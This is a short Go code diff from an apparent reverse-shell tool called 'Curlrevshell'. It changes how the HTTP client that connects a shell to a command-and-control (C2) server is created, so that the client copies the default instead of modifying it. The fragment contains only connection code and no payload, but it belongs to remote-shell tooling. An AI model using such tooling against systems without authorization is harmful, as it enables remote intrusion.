@@ -69,7 +69,8 @@ func GoSimple(ctx context.Context, c2, fingerprint string, args []string) error 
 // Go connects a Shell to Curlrevshell.
 func Go(ctx context.Context, conf ConnConfig, shell Shell) error {
 	/* Roll an HTTP client. */
-	client := http.DefaultClient
+	client := new(http.Client)
+	*client = *http.DefaultClient /* Don't change the default for everybody. */
 	/* Add fingerprint verification if we have it. */
 	if "" != conf.Fingerprint {
 		vfp, err := TLSFingerprintVerifier(conf.Fingerprint)
